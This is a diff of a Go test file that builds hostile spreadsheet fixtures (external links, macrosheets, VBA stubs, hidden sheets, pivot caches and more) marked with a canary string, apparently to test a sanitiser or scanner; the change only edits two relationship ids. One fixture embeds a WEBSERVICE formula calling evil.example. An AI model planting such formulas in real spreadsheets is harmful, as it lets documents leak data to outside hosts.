@@ -11,7 +11,7 @@ import (
 func hostileSheets(tb testing.TB) []sample {
 	data := "<sheetData>" + cell("A1", "Zwei") + "</sheetData>"
 	list := []sample{
-		{"external-link.xlsx", "external", xlsxFile(tb, `<externalReferences><externalReference r:id="rId4"/></externalReferences>`, formula("[1]Tabelle!A1"), data, "", "xl/externalLinks/externalLink1.xml", "<x>KANARI</x>")},
+		{"external-link.xlsx", "external", xlsxFile(tb, `<externalReferences><externalReference r:id="more0"/></externalReferences>`, formula("[1]Tabelle!A1"), data, "", "xl/externalLinks/externalLink1.xml", "<x>KANARI</x>")},
 		{"connections.xlsx", "connection", xlsxFile(tb, "", "", data, "", "xl/connections.xml", "<x>KANARI</x>")},
 		{"xlm.xlsx", "macrosheet", xlsxFile(tb, "", "", data, "", "xl/macrosheets/sheet9.xml", "<x>KANARI</x>")},
 		{"macro.xlsm", "macro", xlsxFile(tb, "", "", data, "", "xl/vbaProject.bin", canary)},
@@ -19,7 +19,7 @@ func hostileSheets(tb testing.TB) []sample {
 		{"hidden-sheet.xlsx", "hidden-sheet", xlsxFile(tb, `<definedNames><definedName name="X">Zwei!A1</definedName></definedNames>`, formula("Zwei!A1"), "<sheetData>"+cell("A1", canary)+"</sheetData>", `state="veryHidden"`)},
 		{"hidden-row.xlsx", "hidden-row hidden-column", xlsxFile(tb, "", "", `<cols><col min="1" max="1" hidden="1"/></cols><sheetData><row hidden="1"><c r="A1"><v>1</v></c></row></sheetData>`, "")},
 		{"strings.xlsx", "hidden-string", xlsxFile(tb, "", "", data, "", "xl/sharedStrings.xml", head+"<sst "+bookSpace+"><si><t>KANARI</t></si></sst>")},
-		{"pivot.xlsx", "pivot", xlsxFile(tb, `<pivotCaches><pivotCache cacheId="1" r:id="rId8"/></pivotCaches>`, "", data, "", "xl/pivotCache/p.xml", "<x>KANARI</x>")},
+		{"pivot.xlsx", "pivot", xlsxFile(tb, `<pivotCaches><pivotCache cacheId="1" r:id="more0"/></pivotCaches>`, "", data, "", "xl/pivotCache/p.xml", "<x>KANARI</x>")},
 		{"scenario.xlsx", "scenario", xlsxFile(tb, "", "", data+`<scenarios><scenario name="KANARI" user="KANARI"/></scenarios>`, "")},
 		{"validation.xlsx", "formula", xlsxFile(tb, "", "", data+`<dataValidations count="1"><dataValidation sqref="A1"><formula1>WEBSERVICE("https://evil.example/KANARI")</formula1></dataValidation></dataValidations>`, "")},
 		{"sharing.xlsx", "person", xlsxFile(tb, `<fileSharing userName="KANARI"/>`, "", data, "")},
